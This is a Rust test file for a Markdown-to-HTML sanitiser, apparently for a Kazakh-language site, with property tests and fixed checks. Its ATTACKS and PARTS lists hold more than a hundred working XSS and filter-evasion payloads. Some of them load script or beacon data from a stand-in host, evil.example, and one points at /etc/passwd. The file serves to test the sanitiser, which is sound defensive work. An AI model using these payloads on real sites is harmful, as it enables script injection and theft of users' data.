//! Markdown as people write it, and as attackers do. What comes out is parsed as a browser parses it.

use proptest::prelude::*;
use scraper::{ElementRef, Html};

use super::*;

/// Inputs that have broken other sites: after OWASP's list of filter evasions, CommonMark's odd corners, and the
/// mutations that browsers make of what a sanitiser let through.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/src=//evil.example>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img/onerror=alert(1)\u{c}src=x>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/?x)}",
    "<div style=\"width:expression(alert(1))\">",
    "<p style=position:fixed;inset:0 class=button id=main>over the page</p>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<button form=main formaction=javascript:alert(1)>X",
    "<form action=//evil.example><input name=csrf>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1);\">x</a>",
    "<a onmouseover=alert(1) href=https://example.kz>x</a>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x onload=alert(1)>",
    "<!DOCTYPE html><html><head><title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><b>the rest of the page",
    "<select><option><script>alert(1)</script></select>",
    "<table><td background=javascript:alert(1)>",
    "</p></div></main></body><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://ortaq.kz/1)",
    "[x](//evil.example)",
    "[x](/kk/sign-out)",
    "[x](#main)",
    "[x](https://example.kz\" onmouseover=\"alert(1))",
    "[x](https://example.kz \"title\\\" onmouseover=\\\"alert(1)\")",
    "[x](<https://example.kz\"><script>alert(1)</script>>)",
    "[x][y]\n\n[y]: javascript:alert(1) \"t\"",
    "[a [b](javascript:alert(1)) c](https://example.kz)",
    "[<img src=x onerror=alert(1)>](https://example.kz)",
    "<javascript:alert(1)>",
    "<data:text/html,1>",
    "<https://example.kz/\"onmouseover=alert(1)>",
    "<a@b.kz\"onmouseover=alert(1)>",
    "![x](javascript:alert(1))",
    "![\" onerror=\"alert(1)](x)",
    "![x](https://evil.example/seen.gif)",
    "![![x](a)](https://evil.example/b)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onload=alert(1) x=\"\ncode\n```",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "# x {#main .button onclick=alert(1)}",
    "> <script>\n> alert(1)\n> </script>",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "**<b onclick=alert(1)>x**</b>",
    "*a **b* c** <i>",
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|x|",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<p>\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "\u{202e}gpj.exe [x](https://example.kz/\u{202e}gpj.exe)\u{2066}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{feff}<script>alert(1)</script>",
    "<a\u{a0}href=javascript:alert(1)>x",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<b><p></b><img src=x onerror=alert(1)></p>",
];

/// What is wrong with HTML that must be harmless.
fn harm(html: &str) -> Vec<String> {
    let mut harm = Vec::new();
    let document = Html::parse_fragment(html);
    for element in document.root_element().descendants().skip(1).filter_map(ElementRef::wrap) {
        let name = element.value().name();
        if !ELEMENTS.contains(&name) {
            harm.push(format!("<{name}>"));
        }
        for (attribute, value) in element.value().attrs() {
            let is_fine = match (name, attribute) {
                ("a", "rel") => value == RELATION,
                ("a", "href") => {
                    let address = value.to_ascii_lowercase();
                    ["http://", "https://", "mailto:"].iter().any(|scheme| address.starts_with(scheme))
                }
                _ => false,
            };
            if !is_fine {
                harm.push(format!("<{name} {attribute}={value:?}>"));
            }
        }
    }
    if html.chars().any(|letter| matches!(letter, '\0' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')) {
        harm.push("letters that turn the text".to_owned());
    }
    harm
}

fn words(html: &str) -> String {
    Html::parse_fragment(html).root_element().text().collect()
}

#[test]
fn no_attack_of_the_list_comes_through() {
    assert!(ATTACKS.len() >= 60);
    let mut through = Vec::new();
    for attack in ATTACKS {
        for written in
            [(*attack).to_owned(), format!("text {attack} text"), format!("> - a\n>   {attack}\n\n**{attack}")]
        {
            let html = html(&written);
            through.extend(harm(&html).into_iter().map(|harm| format!("{written:?} gives {harm} in {html}")));
        }
    }
    assert!(through.is_empty(), "{}", through.join("\n"));
}

#[test]
fn all_attacks_together_do_not_help_each_other() {
    for separator in ["", "\n", "\n\n", " "] {
        assert_eq!(harm(&html(&ATTACKS.join(separator))), Vec::<String>::new());
    }
}

#[test]
fn the_test_sees_harm() {
    for harmful in ["<script>", "<p onclick=x>", "<a href=javascript:x>", "<a href=/x>", "<a target=x>", "<p>\u{202e}"]
    {
        assert!(!harm(harmful).is_empty(), "{harmful}");
    }
}

#[test]
fn what_people_write_is_shown() {
    let written =
        "# Көпір\n\nБірінші жол\nекінші **жол** мен *үшінші*\n\n- бір\n- екі\n\n1. a\n2. b\n\n> сөз\n\n### Төмен";
    assert_eq!(
        html(written).replace('\n', ""),
        "<h3>Көпір</h3><p>Бірінші жол<br>екінші <strong>жол</strong> мен <em>үшінші</em></p>\
         <ul><li>бір</li><li>екі</li></ul><ol><li>a</li><li>b</li></ol><blockquote><p>сөз</p></blockquote><h5>Төмен</h5>"
    );
}

#[test]
fn links_say_that_nobody_vouches_for_them() {
    let link = |address: &str| format!("<p><a href=\"{address}\" rel=\"{RELATION}\">x</a></p>\n");
    assert_eq!(html("[x](https://egov.kz \"title\")"), link("https://egov.kz"));
    assert_eq!(html("[x](HTTP://egov.kz/?a=1&b=2)"), link("HTTP://egov.kz/?a=1&amp;b=2"));
    assert_eq!(html("<a@b.kz>"), "<p><a href=\"mailto:a@b.kz\" rel=\"nofollow noopener ugc\">a@b.kz</a></p>\n");
    assert_eq!(html("[сөз](javascript:alert(1))"), "<p>сөз</p>\n", "a link that leads nowhere good is its words");
}

#[test]
fn html_that_was_typed_is_read_as_it_was_typed() {
    assert_eq!(words(&html("Бала саны < 20 & **өсуде** <b>x</b>")), "Бала саны < 20 & өсуде <b>x</b>\n");
    assert_eq!(words(&html("<div>\nмәтін\n</div>")).trim(), "<div>\nмәтін\n</div>");
    assert_eq!(words(&html("`a<b>`")), "a<b>\n");
    assert_eq!(words(&html("![көпір суреті](https://example.kz/a.jpg)")), "көпір суреті\n");
}

#[test]
fn headings_stay_below_those_of_the_page() {
    let html = html("# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6\nх\n===");
    let document = Html::parse_fragment(&html);
    let names: Vec<&str> =
        document.root_element().children().filter_map(ElementRef::wrap).map(|element| element.value().name()).collect();
    assert_eq!(names, ["h3", "h4", "h5", "h5", "h5", "h5", "h3"]);
}

#[test]
fn deep_and_long_texts_end_soon() {
    for unit in [
        ">", "> ", "- ", "1. ", "*", "**", "_a", "[", "[a](", "![", "<b>", "<div>\n", "`", "```\n", "\\", "&amp;",
        "<!--",
    ] {
        let long = unit.repeat(200_000 / unit.len());
        let begun = std::time::Instant::now();
        let html = html(&long);
        assert!(begun.elapsed().as_secs() < 5, "{unit:?} takes {:?}", begun.elapsed());
        assert_eq!(harm(&html), Vec::<String>::new());
        let opened = Html::parse_fragment(&html);
        let deepest = opened.tree.nodes().map(|node| node.ancestors().count()).max().unwrap();
        assert!(deepest <= DEEPEST + 4, "{unit:?} is {deepest} deep");
    }
}

#[test]
fn a_text_beyond_the_limit_is_cut_between_letters() {
    let long = "ә".repeat(LONGEST);
    assert_eq!(words(&html(&long)).trim().chars().count(), LONGEST / 2);
}

#[test]
fn plain_words_have_no_marks() {
    let written =
        "# Көпір\n\nБірінші **жол**\nекінші [сілтеме](https://egov.kz) &amp; `код`\n\n- бір\n- екі\n\n![сурет](x)";
    assert_eq!(plain(written), "Көпір Бірінші жол екінші сілтеме & код бір екі сурет");
    assert_eq!(plain("<b>x</b>"), "<b>x</b>", "it is escaped where it is shown");
    assert_eq!(plain(""), "");
}

proptest! {
    #[test]
    fn nothing_else_ever_comes_out(written in "\\PC{0,200}") {
        prop_assert_eq!(harm(&html(&written)), Vec::<String>::new());
    }

    #[test]
    fn nothing_else_comes_out_of_what_looks_like_markup(
        parts in prop::collection::vec(prop::sample::select(PARTS.to_vec()), 0..40)
    ) {
        let written = parts.concat();
        let html = html(&written);
        prop_assert_eq!(harm(&html), Vec::<String>::new(), "{} gives {}", written, html);
        prop_assert!(plain(&written).len() <= written.len() * 4);
    }
}

/// Pieces of Markdown and HTML, to be put together at random.
const PARTS: &[&str] = &[
    "<",
    ">",
    "/",
    "=",
    "\"",
    "'",
    "`",
    "```",
    "\n",
    "\n\n",
    "    ",
    "# ",
    "## ",
    "> ",
    "- ",
    "1. ",
    "*",
    "**",
    "_",
    "[",
    "]",
    "(",
    ")",
    "](",
    "![",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "&lt;",
    "&#60;",
    "&colon;",
    "\\",
    ":",
    "a",
    "b c",
    "script",
    "style",
    "svg",
    "math",
    "img src=x onerror=alert(1)",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "<table>",
    "<a href=",
    "javascript:alert(1)",
    "data:text/html,",
    "https://example.kz",
    "mailto:a@b.kz",
    "\u{0}",
    "\u{202e}",
    "\t",
    "\r",
    "ә",
    "<p>",
    "</p>",
    "<noscript>",
    "<textarea>",
    "<title>",
    "<template>",
    "onclick=alert(1)",
];
